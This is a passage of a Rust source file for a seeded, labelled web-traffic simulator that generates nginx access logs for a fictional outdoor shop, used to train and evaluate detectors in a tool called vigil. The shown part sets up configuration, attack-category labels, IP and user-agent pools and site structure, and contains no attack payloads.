//! Seeded, labelled web-traffic simulator. It produces the access log of a plausible outdoor
//! shop with a JSON API, in nginx/Apache combined format, with one ground-truth label per line.
//! It sits upstream of everything else in vigil: `vigil eval` scores its logs against the
//! labels, and the shipped models (templates, forest, transformer) are trained on its normal
//! traffic. No I/O and no clock: the caller writes the lines and labels, and the same
//! `SimConfig` gives byte-identical output (every random stream is derived from the seed;
//! `StdRng` is only stable within one `rand` major version, so pin it with the output).
//!
//! What is simulated: anonymous browser sessions (pages, then the assets a browser fetches,
//! cart badge XHRs, think times, early exits, cart and checkout in order), returning customers
//! who log in (with the odd mistyped password), a few staff in the admin area (including
//! legitimate large CSV exports), a mobile app and partner integrations on the API, search
//! engine and SEO crawlers, link previewers, uptime monitors and feed readers. Rates follow a
//! local-time diurnal curve and a weekday/weekend pattern. Households and mobile carriers put
//! several users behind one address and a corporate proxy puts dozens behind one. Honest errors
//! are part of normal traffic: typos and dead links (404), cached assets (304), failed logins,
//! declined cards, double submits, occasional 500s and a short deploy window of 503s.
//!
//! Volume: at `scale` 1.0 a weekday is about 125-135k lines (browsers ~60%, logged-in
//! customers ~12%, API clients ~10%, crawlers ~9%, monitors ~4.5%). Monitors, feed readers
//! and partner jobs keep their cadence at any scale; crawlers scale with its square root.
//!
//! Attack episodes of eleven kinds are interleaved with that traffic. Attackers draw addresses
//! from the same residential, mobile, cloud and NAT pools as customers and mostly send the
//! same browser user-agents, so neither field alone separates them. Episode sizes do not
//! follow `scale`, except that volumetric ones (scanning, stuffing, enumeration, flood) shrink
//! by `sqrt(scale)` below 1 (at most halved), so small runs are not dominated by attacks.
//!
//! Label rule: a line is an attack if and only if `Label::attack` is set. Every request an
//! attacker makes as part of an episode carries the episode's kind and number, including the
//! requests that look harmless on their own (a reflection probe before an XSS payload, the
//! `GET /account` after a stuffed login succeeded, every request of a contextual episode).
//! Browsing an attacker does *before* the episode starts (warm-up) is simulated and labelled
//! normal: `attack: None`, actor `"attacker-warmup"`, with `episode` set only to link it to the
//! episode that follows; evaluation must not count it as an attack. Episodes are numbered from
//! 1 in order of their start time.

use std::collections::BTreeSet;
use std::fmt;
use std::fmt::Write as _;
use std::rc::Rc;

use chrono::{DateTime, Datelike, FixedOffset, TimeZone, Timelike, Utc};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

/// What to simulate.
#[derive(Debug, Clone, PartialEq)]
pub struct SimConfig {
    pub seed: u64,
    /// First instant of the log; its UTC offset is the site's local time (diurnal curve).
    pub start: DateTime<FixedOffset>,
    pub days: f64,
    /// Multiplies normal traffic volume; 1.0 is roughly 100-150k lines per day.
    pub scale: f64,
    /// Attack episodes of each kind over the whole run.
    pub episodes_per_type: usize,
}

impl Default for SimConfig {
    fn default() -> Self {
        // Monday 2024-10-07 00:00 UTC: a week boundary makes weekday/weekend easy to read.
        let start = Utc
            .timestamp_opt(1_728_259_200, 0)
            .single()
            .unwrap_or_default()
            .fixed_offset();
        SimConfig {
            seed: 42,
            start,
            days: 1.0,
            scale: 1.0,
            episodes_per_type: 3,
        }
    }
}

/// Kinds of attack episode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackKind {
    Sqli,
    Xss,
    Traversal,
    Rce,
    Scanning,
    BruteForce,
    CredentialStuffing,
    Enumeration,
    Contextual,
    Exfiltration,
    Flood,
}

impl AttackKind {
    pub fn all() -> &'static [AttackKind] {
        use AttackKind::*;
        &[
            Sqli,
            Xss,
            Traversal,
            Rce,
            Scanning,
            BruteForce,
            CredentialStuffing,
            Enumeration,
            Contextual,
            Exfiltration,
            Flood,
        ]
    }

    /// The snake_case name used in label files.
    pub fn as_str(self) -> &'static str {
        match self {
            AttackKind::Sqli => "sqli",
            AttackKind::Xss => "xss",
            AttackKind::Traversal => "traversal",
            AttackKind::Rce => "rce",
            AttackKind::Scanning => "scanning",
            AttackKind::BruteForce => "brute_force",
            AttackKind::CredentialStuffing => "credential_stuffing",
            AttackKind::Enumeration => "enumeration",
            AttackKind::Contextual => "contextual",
            AttackKind::Exfiltration => "exfiltration",
            AttackKind::Flood => "flood",
        }
    }
}

impl fmt::Display for AttackKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Ground truth for one log line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Label {
    /// `Some` exactly when the line is part of an attack episode.
    pub attack: Option<AttackKind>,
    /// The episode the line belongs to (or, for `attacker-warmup`, precedes).
    pub episode: Option<u32>,
    /// Who sent it: `browser`, `customer`, `staff`, `api-client`, `crawler`, `monitor`,
    /// `feed-reader`, `attacker`, `attacker-warmup`.
    pub actor: String,
}

/// One access-log line (no trailing newline) with its time and label.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimLine {
    pub time: DateTime<FixedOffset>,
    pub line: String,
    pub label: Label,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SimError {
    #[error("label is not valid JSON of the form {{\"line\":N,\"attack\":..,\"episode\":..,\"actor\":..}}: {reason}")]
    Label { reason: String },
}

#[derive(Serialize)]
struct LabelOut<'a> {
    line: usize,
    attack: Option<AttackKind>,
    episode: Option<u32>,
    actor: &'a str,
}

#[derive(Deserialize)]
struct LabelIn {
    #[allow(dead_code)]
    line: Option<usize>,
    attack: Option<AttackKind>,
    episode: Option<u32>,
    actor: String,
}

/// One JSONL object per log line: `{"line":N,"attack":"sqli"|null,"episode":7|null,"actor":"browser"}`.
pub fn label_json(line_no: usize, l: &Label) -> String {
    let row = LabelOut {
        line: line_no,
        attack: l.attack,
        episode: l.episode,
        actor: &l.actor,
    };
    // Serialising plain integers, strings and a unit enum cannot fail; the fallback keeps the
    // function total without a panic path.
    serde_json::to_string(&row).unwrap_or_else(|_| {
        format!("{{\"line\":{line_no},\"attack\":null,\"episode\":null,\"actor\":\"\"}}")
    })
}

/// Reads one line written by `label_json` back (the `line` field is optional and ignored).
pub fn parse_label(json: &str) -> Result<Label, SimError> {
    let row: LabelIn = serde_json::from_str(json.trim()).map_err(|e| SimError::Label {
        reason: e.to_string(),
    })?;
    Ok(Label {
        attack: row.attack,
        episode: row.episode,
        actor: row.actor,
    })
}

// ---------------------------------------------------------------------------------------------
// Randomness and time

/// SplitMix64 finaliser: derives independent sub-seeds, so adding a client type does not shift
/// the random stream (and thus the output) of every other one.
fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

fn stream(seed: u64, name: &str) -> StdRng {
    let mut h = mix(seed);
    for b in name.bytes() {
        h = mix(h ^ u64::from(b));
    }
    StdRng::seed_from_u64(h)
}

fn chance(rng: &mut StdRng, p: f64) -> bool {
    rng.gen::<f64>() < p
}

fn exp(rng: &mut StdRng, mean: f64) -> f64 {
    -mean * (1.0 - rng.gen::<f64>()).ln()
}

fn normal(rng: &mut StdRng) -> f64 {
    let u1 = 1.0 - rng.gen::<f64>();
    let u2 = rng.gen::<f64>();
    (-2.0 * u1.ln()).sqrt() * (std::f64::consts::TAU * u2).cos()
}

/// Think times and sizes are heavy-tailed; a log-normal around a median captures that.
fn lognormal(rng: &mut StdRng, median: f64, sigma: f64) -> f64 {
    median * (sigma * normal(rng)).exp()
}

fn pick<'a, T>(rng: &mut StdRng, xs: &'a [T]) -> &'a T {
    &xs[rng.gen_range(0..xs.len())]
}

fn weighted<'a, T>(rng: &mut StdRng, xs: &'a [(f64, T)]) -> &'a T {
    &xs[weighted_index(rng, xs)].1
}

fn weighted_index<T>(rng: &mut StdRng, xs: &[(f64, T)]) -> usize {
    let total: f64 = xs.iter().map(|x| x.0).sum();
    let mut r = rng.gen::<f64>() * total;
    for (i, (w, _)) in xs.iter().enumerate() {
        if r < *w {
            return i;
        }
        r -= w;
    }
    xs.len() - 1
}

/// Popularity is Zipf-like: a few products get most views.
fn skewed(rng: &mut StdRng, n: usize, power: f64) -> usize {
    ((n as f64) * rng.gen::<f64>().powf(power)) as usize % n.max(1)
}

/// Relative browsing activity by local hour (1.0 = peak): quiet before dawn, a lunchtime and
/// an evening peak. Interpolated so that no hour boundary shows a step.
const HUMAN_CURVE: [f64; 24] = [
    0.42, 0.28, 0.19, 0.14, 0.12, 0.14, 0.22, 0.40, 0.60, 0.76, 0.86, 0.92, //
    0.98, 0.97, 0.93, 0.91, 0.90, 0.90, 0.94, 1.00, 1.00, 0.94, 0.78, 0.58,
];

/// Local calendar of the run: seconds since start -> local hour and weekday.
#[derive(Debug, Clone, Copy)]
struct Clock {
    start_sod: f64,
    start_dow: u32,
}

impl Clock {
    fn new(start: &DateTime<FixedOffset>) -> Clock {
        Clock {
            start_sod: f64::from(start.time().num_seconds_from_midnight()),
            start_dow: start.weekday().num_days_from_monday(),
        }
    }

    fn hour(&self, t: f64) -> f64 {
        ((self.start_sod + t) / 3600.0).rem_euclid(24.0)
    }

    fn weekend(&self, t: f64) -> bool {
        let day = ((self.start_sod + t) / 86_400.0).floor() as i64;
        (i64::from(self.start_dow) + day).rem_euclid(7) >= 5
    }

    fn human(&self, t: f64) -> f64 {
        let h = self.hour(t);
        let i = h.floor() as usize % 24;
        let f = h - h.floor();
        let v = HUMAN_CURVE[i] * (1.0 - f) + HUMAN_CURVE[(i + 1) % 24] * f;
        if self.weekend(t) {
            // Weekends shop more, later and flatter through the day.
            1.12 * (0.35 + 0.65 * v)
        } else {
            v
        }
    }

    fn office(&self, t: f64) -> f64 {
        let h = self.hour(t);
        if self.weekend(t) {
            0.04
        } else if (8.5..18.0).contains(&h) {
            if (12.0..13.0).contains(&h) {
                0.6
            } else {
                1.0
            }
        } else if (7.0..20.0).contains(&h) {
            0.25
        } else {
            0.02
        }
    }
}

/// Arrival times of a non-homogeneous Poisson process over [0, end) by thinning: candidates
/// at the peak rate, kept with probability intensity/peak.
fn arrivals(
    rng: &mut StdRng,
    end: f64,
    per_day_at_peak: f64,
    intensity: impl Fn(f64) -> f64,
) -> Vec<f64> {
    let mut out = Vec::new();
    if per_day_at_peak <= 0.0 || !per_day_at_peak.is_finite() {
        return out;
    }
    let mean_gap = 86_400.0 / per_day_at_peak;
    let mut t = exp(rng, mean_gap);
    while t < end {
        if rng.gen::<f64>() < intensity(t) {
            out.push(t);
        }
        t += exp(rng, mean_gap);
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Events and rendering

/// Who sends a request: an address, a user-agent and, for HTTP basic auth, a user name.
#[derive(Debug, Clone)]
struct Client {
    ip: Rc<str>,
    ua: Rc<str>,
    user: Option<Rc<str>>,
    /// Browsers mostly speak HTTP/2 to nginx; scripts and tools HTTP/1.1.
    proto: &'static str,
}

impl Client {
    fn new(ip: &Rc<str>, ua: &Rc<str>) -> Client {
        Client {
            ip: Rc::clone(ip),
            ua: Rc::clone(ua),
            user: None,
            proto: "HTTP/1.1",
        }
    }
}

#[derive(Debug, Clone, Copy)]
struct Tag {
    attack: Option<AttackKind>,
    episode: Option<u32>,
    actor: &'static str,
}

impl Tag {
    fn normal(actor: &'static str) -> Tag {
        Tag {
            attack: None,
            episode: None,
            actor,
        }
    }
}

struct Ev {
    ms: i64,
    client: Client,
    method: &'static str,
    target: String,
    proto: &'static str,
    status: u16,
    bytes: u64,
    referer: Option<Rc<str>>,
    tag: Tag,
}

/// Collects every request of the run; out-of-window requests (a session that started just
/// before the end) are dropped here so generators need not care.
struct Out {
    evs: Vec<Ev>,
    end: f64,
}

/// One request and the site's answer, before it gets a time and a client.
struct Req {
    method: &'static str,
    target: String,
    status: u16,
    bytes: u64,
    referer: Option<Rc<str>>,
}

impl Req {
    fn new(method: &'static str, target: impl Into<String>, status: u16, bytes: u64) -> Req {
        Req {
            method,
            target: target.into(),
            status,
            bytes,
            referer: None,
        }
    }

    fn get(target: impl Into<String>, status: u16, bytes: u64) -> Req {
        Req::new("GET", target, status, bytes)
    }

    fn post(target: impl Into<String>, status: u16, bytes: u64) -> Req {
        Req::new("POST", target, status, bytes)
    }

    fn from(mut self, referer: Option<&Rc<str>>) -> Req {
        self.referer = referer.cloned();
        self
    }
}

impl Out {
    fn push(&mut self, t: f64, c: &Client, tag: Tag, r: Req) {
        if !(0.0..self.end).contains(&t) {
            return;
        }
        self.evs.push(Ev {
            ms: (t * 1000.0) as i64,
            client: c.clone(),
            method: r.method,
            target: r.target,
            proto: c.proto,
            status: r.status,
            bytes: r.bytes,
            referer: r.referer,
            tag,
        });
    }
}

const HEX: &[u8; 16] = b"0123456789ABCDEF";

/// nginx `log_format` escaping: `"`, `\`, control bytes and bytes >= 0x7f become `\xHH`, so a
/// client-supplied field can never end its quoted field or the line.
fn escape_into(out: &mut String, v: &str) {
    for &b in v.as_bytes() {
        if b < 0x20 || b == b'"' || b == b'\\' || b >= 0x7f {
            out.push_str("\\x");
            out.push(HEX[usize::from(b >> 4)] as char);
            out.push(HEX[usize::from(b & 0xf)] as char);
        } else {
            out.push(b as char);
        }
    }
}

fn render(e: &Ev, time: &str, s: &mut String) {
    escape_into(s, &e.client.ip);
    s.push_str(" - ");
    match &e.client.user {
        Some(u) => escape_into(s, u),
        None => s.push('-'),
    }
    s.push_str(" [");
    s.push_str(time);
    s.push_str("] \"");
    escape_into(s, e.method);
    s.push(' ');
    escape_into(s, &e.target);
    s.push(' ');
    s.push_str(e.proto);
    let _ = write!(s, "\" {} {} \"", e.status, e.bytes);
    match &e.referer {
        Some(r) => escape_into(s, r),
        None => s.push('-'),
    }
    s.push_str("\" \"");
    escape_into(s, &e.client.ua);
    s.push('"');
}

/// Form/query encoding as a browser submits it: unreserved bytes kept, space as `+`, the
/// rest (including UTF-8 bytes) as upper-case `%HH`.
fn form_encode(v: &str) -> String {
    let mut s = String::with_capacity(v.len() * 2);
    for &b in v.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                s.push(b as char)
            }
            b' ' => s.push('+'),
            _ => {
                s.push('%');
                s.push(HEX[usize::from(b >> 4)] as char);
                s.push(HEX[usize::from(b & 0xf)] as char);
            }
        }
    }
    s
}

// ---------------------------------------------------------------------------------------------
// Addresses and user-agents

/// /16 prefixes of large residential ISPs (US and EU cable/DSL/fibre).
#[rustfmt::skip]
const RESIDENTIAL: &[(u8, u8)] = &[
    (24, 6), (24, 17), (24, 130), (73, 15), (73, 92), (73, 170), (98, 210), (71, 198), (76, 104),
    (67, 161), (108, 31), (174, 62), (68, 82), (75, 148), (96, 241), (81, 107), (82, 24),
    (86, 150), (90, 211), (92, 40), (2, 205), (5, 146), (31, 17), (37, 201), (46, 114), (78, 54),
    (79, 213), (80, 229), (84, 58), (85, 211), (88, 152), (89, 204), (91, 65), (93, 210),
    (94, 134), (95, 90), (176, 198), (178, 24), (188, 96), (212, 186), (213, 47), (217, 83),
];
/// Mobile carriers put many subscribers behind few addresses (CGNAT).
#[rustfmt::skip]
const MOBILE: &[(u8, u8)] = &[(172, 56), (172, 58), (174, 205), (107, 77), (37, 100), (176, 0), (109, 40)];
/// Cloud and VPS ranges: partner integrations run here, and so do many attackers.
#[rustfmt::skip]
const CLOUD: &[(u8, u8)] = &[
    (3, 82), (3, 120), (18, 196), (34, 73), (35, 204), (52, 14), (54, 196), (104, 131),
    (134, 209), (138, 68), (159, 89), (167, 99), (164, 90), (5, 75), (49, 12), (78, 46),
    (95, 216), (116, 202), (51, 75), (51, 89), (137, 74), (147, 135), (45, 33), (172, 104), (139, 162),
];

fn ipv4(rng: &mut StdRng, prefixes: &[(u8, u8)]) -> Rc<str> {
    let (a, b) = *pick(rng, prefixes);
    let c: u8 = rng.gen();
    let d: u8 = rng.gen_range(1..255);
    Rc::from(format!("{a}.{b}.{c}.{d}"))
}

/// Residential IPv6 for a minority of households (dual-stack ISPs).
fn ipv6(rng: &mut StdRng) -> Rc<str> {
    let p = *pick(
        rng,
        &[
            "2a02:810d",
            "2001:16b8",
            "2600:1700",
            "2601:646",
            "2a01:cb00",
        ],
    );
    Rc::from(format!(
        "{p}:{:x}:{:x}:{:x}:{:x}:{:x}:{:x}",
        rng.gen::<u16>(),
        rng.gen::<u16>(),
        rng.gen::<u16>(),
        rng.gen::<u16>(),
        rng.gen::<u16>(),
        rng.gen::<u16>()
    ))
}

fn residential_ip(rng: &mut StdRng) -> Rc<str> {
    if chance(rng, 0.12) {
        ipv6(rng)
    } else {
        ipv4(rng, RESIDENTIAL)
    }
}

const DESKTOP_UAS: &[(f64, &str)] = &[
    (20.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"),
    (6.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"),
    (3.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"),
    (8.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0"),
    (5.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0"),
    (9.0, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"),
    (7.0, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15"),
    (3.0, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15"),
    (2.0, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:131.0) Gecko/20100101 Firefox/131.0"),
    (2.0, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"),
    (1.0, "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"),
    (1.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 OPR/114.0.0.0"),
];

const MOBILE_UAS: &[(f64, &str)] = &[
    (16.0, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1"),
    (9.0, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1"),
    (3.0, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/129.0.6668.69 Mobile/15E148 Safari/604.1"),
    (18.0, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36"),
    (4.0, "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36"),
    (3.0, "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1"),
    (2.0, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 346.0.2.25.108 (iPhone14,5; iOS 17_5; en_US; en; scale=3.00; 1170x2532; 632108247)"),
    (1.0, "Mozilla/5.0 (Android 14; Mobile; rv:131.0) Gecko/131.0 Firefox/131.0"),
    (1.0, "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/129.0.6668.81 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/484.0.0.55.61;]"),
];

fn desktop_ua(rng: &mut StdRng) -> Rc<str> {
    Rc::from(*weighted(rng, DESKTOP_UAS))
}

fn mobile_ua(rng: &mut StdRng) -> Rc<str> {
    Rc::from(*weighted(rng, MOBILE_UAS))
}

fn browser_proto(rng: &mut StdRng) -> &'static str {
    if chance(rng, 0.75) {
        "HTTP/2.0"
    } else {
        "HTTP/1.1"
    }
}

fn browser_ua(rng: &mut StdRng) -> Rc<str> {
    if chance(rng, 0.55) {
        mobile_ua(rng)
    } else {
        desktop_ua(rng)
    }
}

/// A shared public address: a household router, a corporate proxy or a campus NAT.
struct Nat {
    ip: Rc<str>,
    uas: Vec<Rc<str>>,
}

/// A registered customer who comes back and logs in.
struct Customer {
    id: u32,
    ip: Option<Rc<str>>,
    ua: Rc<str>,
    mobile: bool,
    orders: Vec<u32>,
}

/// Everyone's addresses, fixed for the run so that repeat visits come from the same places.
struct Population {
    households: Vec<Nat>,
    corporate: Nat,
    campus: Nat,
    mobile_ips: Vec<Rc<str>>,
    customers: Vec<Customer>,
}

impl Population {
    fn new(rng: &mut StdRng, scale: f64) -> Population {
        let n_house = ((260.0 * scale).round() as usize).max(8);
        let households = (0..n_house)
            .map(|_| {
                let ip = residential_ip(rng);
                let n = rng.gen_range(2..=5);
                let uas = (0..n).map(|_| browser_ua(rng)).collect();
                Nat { ip, uas }
            })
            .collect();
        // A managed fleet: most staff machines send one of two identical browser builds.
        let corp_uas: Vec<Rc<str>> = (0..rng.gen_range(30..70))
            .map(|_| {
                if chance(rng, 0.8) {
                    Rc::from(DESKTOP_UAS[if chance(rng, 0.6) { 3 } else { 0 }].1)
                } else {
                    browser_ua(rng)
                }
            })
            .collect();
        let corporate = Nat {
            ip: Rc::from(format!(
                "193.{}.{}.{}",
                rng.gen_range(16..200),
                rng.gen::<u8>(),
                rng.gen_range(2..250)
            )),
            uas: corp_uas,
        };
        let campus = Nat {
            ip: Rc::from(format!(
                "128.{}.{}.{}",
                rng.gen_range(30..200),
                rng.gen::<u8>(),
                rng.gen_range(2..250)
            )),
            uas: (0..rng.gen_range(20..40))
                .map(|_| browser_ua(rng))
                .collect(),
        };
        let n_mobile = ((90.0 * scale.sqrt()).round() as usize).max(6);
        let mobile_ips = (0..n_mobile).map(|_| ipv4(rng, MOBILE)).collect();
        let mut population = Population {
            households,
            corporate,
            campus,
            mobile_ips,
            customers: Vec::new(),
        };
        let n_cust = ((1800.0 * scale).round() as usize).max(20);
        for i in 0..n_cust {
            let mobile = chance(rng, 0.45);
            let (ip, ua) = if mobile {
                (None, mobile_ua(rng))
            } else if chance(rng, 0.3) {
                let h = pick(rng, &population.households);
                (Some(Rc::clone(&h.ip)), Rc::clone(pick(rng, &h.uas)))
            } else {
                (Some(residential_ip(rng)), browser_ua(rng))
            };
            let id = 1_000 + (i as u32) * 31 + rng.gen_range(0..31);
            let orders = (0..rng.gen_range(0..6))
                .map(|_| rng.gen_range(20_000..48_000))
                .collect();
            population.customers.push(Customer {
                id,
                ip,
                ua,
                mobile,
                orders,
            });
        }
        population
    }

    fn mobile_ip(&self, rng: &mut StdRng) -> Rc<str> {
        Rc::clone(pick(rng, &self.mobile_ips))
    }

    /// A customer's address for this visit: phones move between carrier addresses.
    fn customer_ip(&self, rng: &mut StdRng, c: &Customer) -> Rc<str> {
        match &c.ip {
            Some(ip) if !c.mobile => Rc::clone(ip),
            _ => self.mobile_ip(rng),
        }
    }

    /// Address and user-agent for an anonymous browsing session.
    fn visitor(&self, rng: &mut StdRng, office: f64) -> Client {
        let r = rng.gen::<f64>();
        if r < 0.13 {
            let h = pick(rng, &self.households);
            Client::new(&h.ip, pick(rng, &h.uas))
        } else if r < 0.13 + 0.12 * office {
            Client::new(&self.corporate.ip, pick(rng, &self.corporate.uas))
        } else if r < 0.16 + 0.12 * office {
            Client::new(&self.campus.ip, pick(rng, &self.campus.uas))
        } else if r < 0.45 {
            Client::new(&self.mobile_ip(rng), &mobile_ua(rng))
        } else {
            Client::new(&residential_ip(rng), &browser_ua(rng))
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The site

const ORIGIN: &str = "https://shop.example.com";

#[rustfmt::skip]
const CATEGORIES: &[&str] = &[
    "mens-jackets", "womens-jackets", "hiking-boots", "trail-running", "backpacks", "tents",
    "sleeping-bags", "camp-kitchen", "headlamps", "base-layers", "rain-gear", "kids",
    "accessories", "sale", "new-arrivals", "climbing",
];

#[rustfmt::skip]
const BLOG: &[&str] = &[
    "how-to-choose-a-sleeping-bag", "best-day-hikes-near-denver", "waterproofing-your-boots",
    "layering-101", "winter-camping-checklist", "trail-running-shoes-guide",
    "lightweight-backpacking-tips", "tent-care-and-repair", "fall-2024-new-arrivals",
    "leave-no-trace-principles", "headlamp-buying-guide", "kids-hiking-gear",
    "how-we-test-rain-jackets", "packing-list-for-the-alps", "down-vs-synthetic-insulation",
    "repair-program-faq",
];

/// Search terms as typed, including typos (zero results) and honest text that contains
/// quotes, ampersands, slashes, SQL words and non-ASCII letters: a detector must not flag these.
#[rustfmt::skip]
const SEARCHES: &[(f64, &str)] = &[
    (9.0, "rain jacket"), (8.0, "hiking boots"), (5.0, "tent"), (4.0, "2 person tent"),
    (5.0, "down jacket women"), (4.0, "headlamp"), (4.0, "sleeping bag"), (3.0, "merino socks"),
    (3.0, "backpack 40l"), (3.0, "trail runners"), (2.0, "gore-tex"), (2.0, "fleece"),
    (2.0, "gaiters"), (2.0, "water filter"), (1.5, "kids' boots"), (1.0, "o'neill jacket"),
    (1.0, "union jack beanie"), (1.0, "drop bag"), (1.0, "select fit chino"), (1.0, "1/2 zip fleece"),
    (1.0, "50% off"), (0.7, "rock & roll tee"), (0.5, "6\" knife"), (0.7, "10' tarp"),
    (0.8, "größe 42 schuhe"), (0.6, "café mug"), (0.5, "sleeping bag -10"), (0.5, "insert into pack liner"),
    (0.4, "script font t-shirt"), (1.5, "hikng boots"), (1.0, "sleping bag"), (1.0, "rian jacket"),
    (0.8, "headlmap"), (0.5, "patagonia"), (0.5, "arc'teryx beta"), (0.6, "gift card"),
];

struct Site {
    products: Vec<u32>,
    retired: Vec<u32>,
    deploy_at: f64,
    hashes: [[String; 3]; 2],
}

impl Site {
    fn new(rng: &mut StdRng, end: f64) -> Site {
        let mut products = Vec::new();
        let mut id = 1000u32;
        while products.len() < 900 {
            id += rng.gen_range(1..6);
            products.push(id);
        }
        let retired = (0..120).map(|_| rng.gen_range(200..1000)).collect();
        let mut hash = |n: usize| -> String {
            (0..n)
                .map(|_| HEX[rng.gen_range(0..16)].to_ascii_lowercase() as char)
                .collect()
        };
        let hashes = [[hash(8), hash(8), hash(8)], [hash(8), hash(8), hash(8)]];
        // One afternoon deploy: new asset hashes afterwards and a short window of 503s.
        let deploy_at = (86_400.0 * 0.6 + rng.gen_range(0.0f64..3600.0)).min(end * 0.6);
        Site {
            products,
            retired,
            deploy_at,
            hashes,
        }
    }

    fn product(&self, rng: &mut StdRng) -> u32 {
        self.products[skewed(rng, self.products.len(), 2.2)]
    }

    /// The products shown on page `page` of listing `key`: fixed, so a listing page shows the
    /// same images to everyone.
    fn listing(&self, key: u64, page: u32) -> Vec<u32> {
        (0..12u64)
            .map(|i| {
                let k = mix(key ^ (u64::from(page) << 8) ^ i);
                self.products[(k % self.products.len() as u64) as usize]
            })
            .collect()
    }

    fn category_of(id: u32) -> &'static str {
        CATEGORIES[(mix(u64::from(id)) % CATEGORIES.len() as u64) as usize]
    }

    fn deploying(&self, t: f64) -> bool {
        (self.deploy_at..self.deploy_at + 45.0).contains(&t)
    }

    /// Static asset paths of the build serving at `t`: css, vendor js, app js.
    fn assets(&self, t: f64) -> [String; 3] {
        let h = &self.hashes[usize::from(t >= self.deploy_at)];
        [
            format!("/static/css/app.{}.css", h[0]),
            format!("/static/js/vendor.{}.js", h[1]),
            format!("/static/js/app.{}.js", h[2]),
        ]
    }

    /// A size stable per resource plus a little dynamic content (prices, recommendations).
    fn size(rng: &mut StdRng, key: u64, lo: u64, hi: u64) -> u64 {
        let base = lo + mix(key) % (hi - lo).max(1);
        let jitter = (base as f64 * 0.015 * normal(rng)) as i64;
        (base as i64 + jitter).max(64) as u64
    }

    fn image_bytes(id: u32, thumb: bool) -> u64 {
        let b = 38_000 + mix(u64::from(id) ^ 0xabc) % 210_000;
        if thumb {
            b / 7
        } else {
            b
        }
    }

    fn search_bytes(rng: &mut StdRng, q: &str, page: u32) -> u64 {
        let typo = ["hikng", "sleping", "rian", "headlmap", "größe", "6\""]
            .iter()
            .any(|w| q.contains(w));
        if typo || page > 3 {
            Site::size(rng, 7, 8_800, 9_600)
        } else {
            Site::size(rng, mix(q.len() as u64 + u64::from(page)), 16_000, 48_000)
        }
    }
}

fn url(path: &str) -> Rc<str> {
    Rc::from(format!("{ORIGIN}{path}"))
}

/// Where a visit came from, as the first page's referer shows it.
fn entry_referer(rng: &mut StdRng) -> Option<Rc<str>> {
    let r = rng.gen::<f64>();
    let s = if r < 0.36 {
        "https://www.google.com/"
    } else if r < 0.42 {
        "https://www.bing.com/"
    } else if r < 0.45 {
        "https://duckduckgo.com/"
    } else if r < 0.47 {
        "https://l.facebook.com/"
    } else if r < 0.49 {
        "https://www.instagram.com/"
